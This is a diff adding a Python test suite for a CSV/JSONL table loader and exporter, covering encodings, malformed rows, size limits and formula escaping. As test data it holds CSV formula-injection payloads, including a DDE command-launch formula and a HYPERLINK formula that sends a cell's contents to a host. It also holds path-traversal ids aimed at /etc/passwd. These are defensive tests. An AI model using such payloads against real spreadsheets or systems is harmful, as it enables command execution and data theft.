@@ -1,0 +1,238 @@
+"""Tables of pairs: encodings, marks, NULs, ragged rows, huge cells, ids that are paths, formulas on the way out."""
+
+import json
+import os
+from functools import partial
+
+import pandas as pd
+from corpus import Case
+from PIL import Image
+
+from verdict.data.csv_folder import build
+from verdict.export.table import DecisionRule, answers, read, write
+from verdict.report.say import table_bundle
+
+HEADER = "image,hypothesis\n"
+HUGE = "x" * 10_000_000
+FORMULAS = {
+    "formula": "=1+1",
+    "formula-that-starts-a-program": "=cmd|' /C calc'!A0",
+    "formula-that-opens-a-link": '=HYPERLINK("http://example.org?"&A1,"click")',
+    "formula-with-plus": "+1+1",
+    "formula-with-minus": "-1+1",
+    "formula-with-at": "@SUM(A1:A9)",
+    "formula-in-full-width": "\uff1d1+1",
+    "formula-behind-an-apostrophe": "'=1+1",
+    "formula-in-quotes": '"=1+1"',
+    "formula-with-a-comma-and-quotes": '=A1,"b"',
+}
+
+
+def pictures(folder):
+    """A folder with the images a.png and b.png."""
+    target = folder / "images"
+    target.mkdir()
+    for name, colour in (("a", "red"), ("b", "blue")):
+        Image.new("RGB", (3, 2), colour).save(target / f"{name}.png")
+    return target
+
+
+def rows(folder, content, file="pairs.csv", columns=("image_id", "hypothesis"), labelled=False):
+    """Rows of the pair table that a file becomes, its images found beside it."""
+    path = folder / file
+    path.write_bytes(content if isinstance(content, bytes) else content.encode("utf-8", errors="surrogatepass"))
+    images, fractions = pictures(folder), {"train": 0.5, "test": 0.5}
+    made = build(table=path, images=images, fractions=fractions, seed=0, out=folder / "store", labelled=labelled)
+    assert made.facts["rows_read"] == len(made.pairs)
+    return made.pairs[list(columns)].to_numpy().tolist()
+
+
+def accepted(name, content, gives, **options):
+    return Case(name, partial(rows, content=content, **options), gives=gives)
+
+
+def refused(name, content, message, **options):
+    file = options.get("file", "pairs.csv").replace(".", r"\.")
+    return Case(name, partial(rows, content=content, **options), refused=rf"(?s){file}.*{message}")
+
+
+def lines(*records):
+    return "".join(json.dumps(record) + "\n" for record in records)
+
+
+def fifo(folder):
+    """A table that would never end."""
+    os.mkfifo(folder / "pairs.csv")
+    return build(table=folder / "pairs.csv", images=pictures(folder), fractions=None, seed=0, out=folder / "store")
+
+
+def sparse(folder):
+    with (folder / "pairs.csv").open("wb") as file:
+        file.truncate(500_000_001)
+    return build(table=folder / "pairs.csv", images=pictures(folder), fractions=None, seed=0, out=folder / "store")
+
+
+def exported(folder, text):
+    """The cell as the file holds it, whether a spreadsheet would take it for a formula, and the text read back."""
+    pairs = pd.DataFrame({"image_id": ["a"], "hypothesis": [text]})
+    rule = DecisionRule(threshold=0.5)
+    write(folder / "out.csv", answers(pairs, [[0.0, 1.0]], rule), rule, {})
+    cell = pd.read_csv(folder / "out.csv", dtype=str, keep_default_na=False)["Hypothesis"][0]
+    return cell[0] in "=+-@\uff1d", read(folder / "out.csv")["Hypothesis"].tolist()
+
+
+def downloaded(folder, text):
+    """Whether a cell or a header of a page's CSV would be a formula."""
+    table = pd.DataFrame({text: [text]})
+    bundle, _ = table_bundle(table, caption="A table", sort_key=None, digits=3, file=None)
+    payload = next(value for key, value in bundle.items() if key.startswith("application/vnd.verdict"))
+    (folder / "page.csv").write_text(payload["csv"], encoding="utf-8")
+    read_again = pd.read_csv(folder / "page.csv", dtype=str, header=None, keep_default_na=False)
+    shown = [text for _, text in read_again[0].items()]
+    return [cell[0] in "=+-@\uff1d" for cell in shown], payload["rows"] == [[text]]
+
+
+AB = [["a", "A café."], ["b", "B."]]
+TEXT = HEADER + "a,A café.\nb,B.\n"
+ACCEPTED = {
+    "utf-8": TEXT.encode(),
+    "utf-8-with-a-mark": TEXT.encode("utf-8-sig"),
+    "utf-16-little-endian": b"\xff\xfe" + TEXT.encode("utf-16-le"),
+    "utf-16-big-endian": b"\xfe\xff" + TEXT.encode("utf-16-be"),
+    "windows-1252": TEXT.encode("cp1252"),
+    "windows-line-ends": TEXT.replace("\n", "\r\n"),
+    "old-mac-line-ends": TEXT.replace("\n", "\r"),
+    "semicolons": TEXT.replace(",", ";"),
+    "tabs": TEXT.replace(",", "\t"),
+    "no-line-end-at-the-end": TEXT.rstrip("\n"),
+    "blank-lines-between": TEXT.replace("\n", "\n\n"),
+    "blanks-around-cells": "image , hypothesis\n a , A café. \nb,B.\n",
+    "everything-in-quotes": '"image","hypothesis"\n"a","A café."\n"b","B."\n',
+    "unused-columns": "image,x,hypothesis\na,1,A café.\nb,2,B.\n",
+}
+REFUSED = {
+    "utf-16-without-a-mark": (TEXT.encode("utf-16-le"), "NUL byte at offset"),
+    "utf-32": (b"\xff\xfe\0\0" + TEXT.encode("utf-32-le"), "NUL character"),
+    "utf-16-cut-in-half": (b"\xff\xfe" + TEXT.encode("utf-16-le")[:-1], "is not utf-16"),
+    "damaged-utf-8": (TEXT.encode() + b"a,\xc3(\n", "0xc3 at byte offset"),
+    "damaged-utf-8-behind-a-mark": (TEXT.encode("utf-8-sig") + b"a,\xff\n", "0xff at byte offset"),
+    "overlong-utf-8": (TEXT.encode() + b"a,\xc0\xaf\n", "0xc0 at byte offset"),
+    "ebcdic": (TEXT.encode("cp500"), "not utf-8|not cp1252|no column for|NUL"),
+    "lost-character": (HEADER + "a,A caf\ufffd.\n", "line 2: a character was already lost"),
+    "nul-in-a-cell": (HEADER + "a,A\0B\n", "NUL byte at offset"),
+    "nul-at-the-end": (TEXT + "\0", "NUL byte at offset"),
+    "spreadsheet-file": (b"PK\x03\x04\x14\0\x06\0" + bytes(200), "NUL byte"),
+    "compressed-file": (b"\x1f\x8b\x08\0\0\0\0\0\0\x03" + bytes(50), "NUL byte"),
+    "parquet-file": (b"PAR1\x15\0\x15" + bytes(50), "NUL byte"),
+    "web-page": ("<html><body>404, not found</body></html>\n", "no column for"),
+    "nothing": ("", "no column for"),
+    "header-alone": (HEADER, "the table has no rows"),
+    "separator-line": ("sep=;\nimage;hypothesis\na;b\n", "no column for"),
+    "fewer-cells": (HEADER + "a,A.\nb\n", "line 3: 1 fields where the header has 2"),
+    "more-cells": (HEADER + "a,A.,x\n", "line 2: 3 fields where the header has 2"),
+    "comma-at-the-end": (HEADER + "a,A.,\n", "line 2: 3 fields"),
+    "comma-in-a-sentence": (HEADER + "a,Red, and blue.\n", "line 2: 3 fields"),
+    "two-files-in-one": ("image,hypothesis,label\na,A.,entailment\nimage,hypothesis,label\n", "line 3: unknown label"),
+    "column-twice": ("image,hypothesis,hypothesis\na,A.,B.\n", "names a column twice"),
+    "two-columns-of-images": ("image,file,hypothesis\na,a,A.\n", "would both be image_id"),
+    "hundred-thousand-columns": (",".join(f"c{k}" for k in range(100_000)) + "\n", "no column for"),
+    "ten-megabyte-cell": (HEADER + f"a,{HUGE}\n", "line 2: field larger than"),
+    "ten-megabyte-header": (HUGE + "\n", "field larger than|no column for"),
+    "quote-that-is-never-closed": (HEADER + f'a,"{HUGE}\n', "field larger than"),
+    "cell-of-ten-thousand-and-one": (HEADER + f"a,{'x' * 10_001}\n", "line 2: a field of 10,001 characters"),
+    "sentence-of-two-thousand-and-one": (HEADER + f"a,{'x' * 2001}\n", "row 2: hypothesis has 2,001 characters"),
+    "quote-inside-a-quote": (HEADER + 'a,"A"B"\n', "line 2"),
+    "line-end-in-a-sentence": (HEADER + 'a,"A\nB"\n', "row 2: hypothesis holds the control character U[+]000A"),
+    "empty-sentence": (HEADER + "a,\n", "row 2: hypothesis is empty"),
+    "sentence-of-blanks": (HEADER + "a,\u00a0\u2003\n", "row 2: hypothesis is empty"),
+    "sentence-without-anything-visible": (HEADER + "a,\u200b\u200d\u2060\n", "row 2: hypothesis is empty"),
+    "pair-twice": (HEADER + "a,A.\na,A.\n", "row 3: repeats row 2"),
+    "pair-with-two-labels": (
+        "image,hypothesis,label\na,A.,entailment\na,A.,contradiction\n",
+        "row 3: repeats row 2 with another label",
+    ),
+    "image-that-is-not-there": (HEADER + "c,C.\n", "1 images are not in"),
+}
+IDS = {
+    "id-above": "../a",
+    "id-through-a-folder": "x/../a",
+    "id-by-absolute-path": "/etc/passwd",
+    "id-of-a-drive": "C:\\a",
+    "id-of-a-share": "\\\\host\\a",
+    "id-that-is-an-address": "file:///etc/passwd",
+    "id-of-the-folder": ".",
+    "id-of-the-folder-above": "..",
+    "id-without-a-name": "",
+    "id-with-a-control-character": "a\x1b",
+    "id-of-three-hundred-characters": "a" * 300,
+}
+LABELS = {
+    "label-of-another-task": ("neutral", "unknown label 'neutral'"),
+    "label-as-a-number": ("0", "unknown label '0'"),
+    "label-with-a-cyrillic-letter": ("\u0435ntailment", "unknown label"),
+    "label-with-a-dotted-capital": ("enta\u0130lment", "unknown label"),
+    "label-that-is-missing": ("", "unknown label ''"),
+    "label-that-is-a-formula": ("=entailment", "unknown label"),
+    "label-of-a-split": ("entailment,dev", "unknown split 'dev'"),
+}
+GOOD = {"image": "a", "hypothesis": "A café."}
+JSON = {
+    "json-broken-line": (lines(GOOD) + "{oops\n", "line 2: Expecting property name"),
+    "json-list": (lines(GOOD) + "[1]\n", "line 2: expected an object, got list"),
+    "json-keys-that-differ": (lines(GOOD, {"image": "b"}), "line 2: keys"),
+    "json-nothing": (lines(GOOD | {"hypothesis": None}), "'hypothesis' is None"),
+    "json-fraction": (lines(GOOD | {"image": 1.5}), "'image' is 1.5"),
+    "json-truth": (lines(GOOD | {"image": True}), "'image' is True"),
+    "json-not-a-number": ('{"image": NaN, "hypothesis": "A"}\n', "line 1: 'image' is nan"),
+    "json-mapping": (lines(GOOD | {"image": {"a": 1}}), "line 1: 'image' is"),
+    "json-key-twice": ('{"image": "a", "image": "b"}\n', "line 1: a key occurs twice"),
+    "json-hundred-thousand-deep": ("[" * 100_000 + "\n", "line 1"),
+    "json-number-of-five-thousand-digits": (f'{{"image": {"9" * 5000}, "hypothesis": "A"}}\n', "line 1"),
+    "json-escaped-nul": (lines(GOOD | {"hypothesis": "a\0b"}), "control character U[+]0000"),
+    "json-half-a-surrogate": (lines(GOOD | {"hypothesis": "a\ud800b"}), "line 1: half a surrogate pair"),
+    "json-ten-megabyte-cell": (lines(GOOD | {"hypothesis": HUGE}), "line 1: a field of 10,000,000"),
+    "json-one-array-over-many-lines": (json.dumps([GOOD], indent=1), "line 1"),
+    "csv-by-the-name-of-json": (TEXT, "line 1: Expecting value"),
+}
+LABELLED = {"columns": ("image_id", "hypothesis", "label"), "labelled": True}
+CASES = [
+    *(accepted(name, content, AB) for name, content in ACCEPTED.items()),
+    *(refused(name, *given) for name, given in REFUSED.items()),
+    *(
+        Case(name, partial(rows, content=HEADER + f'"{given}",A.\n'), refused="not a plain name")
+        for name, given in IDS.items()
+    ),
+    *(
+        refused(name, f"image,hypothesis,label{',split' * (',' in cell)}\na,A.,{cell}\n", f"line 2: {message}")
+        for name, (cell, message) in LABELS.items()
+    ),
+    *(refused(name, *given, file="pairs.jsonl") for name, given in JSON.items()),
+    accepted(
+        "label-in-capitals",
+        "image,hypothesis,label\na,A.,  ENTAILMENT \nb,B.,Contradiction\n",
+        [["a", "A.", "entailment"], ["b", "B.", "contradiction"]],
+        **LABELLED,
+    ),
+    accepted(
+        "json-with-a-line-separator", lines(GOOD | {"hypothesis": "A\u2028B"}), [["a", "A\u2028B"]], file="p.jsonl"
+    ),
+    accepted("json-key-of-a-prototype", lines(GOOD | {"__proto__": {"x": 1}}), AB[:1], file="p.jsonl"),
+    accepted("json-with-a-mark", ("\ufeff" + lines(GOOD)), AB[:1], file="p.jsonl"),
+    Case(
+        "two-names-of-one-image",
+        partial(rows, content=HEADER + "a,A.\na.png,B.\n"),
+        refused=r"'a' and 'a\.png' are the same file",
+    ),
+    Case(
+        "json-id-above",
+        partial(rows, content=lines(GOOD | {"image": "../a"}), file="pairs.jsonl"),
+        refused="not a plain name",
+    ),
+    Case("table-that-never-ends", fifo, refused=r"pairs\.csv is missing"),
+    Case("table-of-half-a-gigabyte", sparse, refused=r"pairs\.csv has 500,000,001 bytes; at most"),
+    *(Case(f"export-{name}", partial(exported, text=text), gives=(False, [text])) for name, text in FORMULAS.items()),
+    *(
+        Case(f"page-{name}", partial(downloaded, text=text), gives=([False, False], True))
+        for name, text in FORMULAS.items()
+    ),
+]
